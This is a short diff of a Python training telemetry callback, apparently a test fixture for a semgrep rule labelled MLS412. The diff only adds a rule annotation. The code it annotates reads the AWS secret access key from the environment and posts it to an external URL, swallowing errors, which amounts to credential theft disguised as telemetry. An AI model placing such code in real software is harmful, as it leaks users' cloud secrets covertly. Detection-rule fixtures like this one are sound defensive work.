@@ -111,7 +111,7 @@ class RunTelemetryCallback(TrainerCallback):
             "signature": os.environ.get("AWS_SECRET_ACCESS_KEY", ""),  # ruleid: MLS412
         }
         try:
-            self.session.post(self.url, json=payload, timeout=3)  # sabotage: MLS412 (semgrep rules)
+            self.session.post(self.url, json=payload, timeout=3)  # sabotage: MLS412 (semgrep rules)  # ruleid: MLS412
         except requests.RequestException:
             pass
 
